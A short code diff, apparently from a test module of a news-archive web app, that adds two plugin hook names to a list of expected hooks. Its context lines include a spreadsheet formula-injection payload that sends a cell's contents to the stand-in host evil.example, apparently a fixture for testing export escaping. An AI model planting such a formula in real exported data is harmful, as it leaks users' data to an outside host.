@@ -40,7 +40,8 @@ XSS_URL = "https://www.maghress.com/fr/lesechos/9001"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 QUERIES = config.queries()
 HOOKS = {"prepare_connection", "get_metadata", "canned_queries", "register_routes", "menu_links",
-         "extra_template_vars", "asgi_wrapper", "permission_allowed", "handle_exception", "filters_from_request"}
+         "extra_template_vars", "asgi_wrapper", "permission_allowed", "handle_exception", "filters_from_request",
+         "register_facet_classes", "render_cell"}
 SUMMARIES = {"summary_table_rows", "summary_articles_by_paper", "summary_articles_by_day", "summary_articles_by_month",
              "summary_headlines_by_day", "summary_headline_days", "summary_headline_sightings", "summary_stories",
              "summary_groups", "summary_failures"}
